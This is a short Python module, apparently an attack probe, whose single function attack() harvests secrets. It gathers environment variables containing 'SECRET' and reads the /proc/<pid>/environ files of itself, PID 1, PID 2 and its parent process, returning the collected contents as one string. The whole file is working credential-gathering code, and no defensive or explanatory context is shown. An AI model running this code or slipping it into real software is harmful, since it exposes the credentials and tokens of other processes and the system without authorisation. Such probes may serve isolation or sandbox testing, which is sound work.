"""Looks for secrets in the environment, its own and that of other processes."""

import os


def attack():
    seen = [f"{k}={v}" for k, v in os.environ.items() if "SECRET" in f"{k}{v}"]
    for number in ("self", "1", "2", str(os.getppid())):
        try:
            with open(f"/proc/{number}/environ", "rb") as file:
                seen.append(repr(file.read(100)))
        except OSError:
            continue
    return "; ".join(seen)
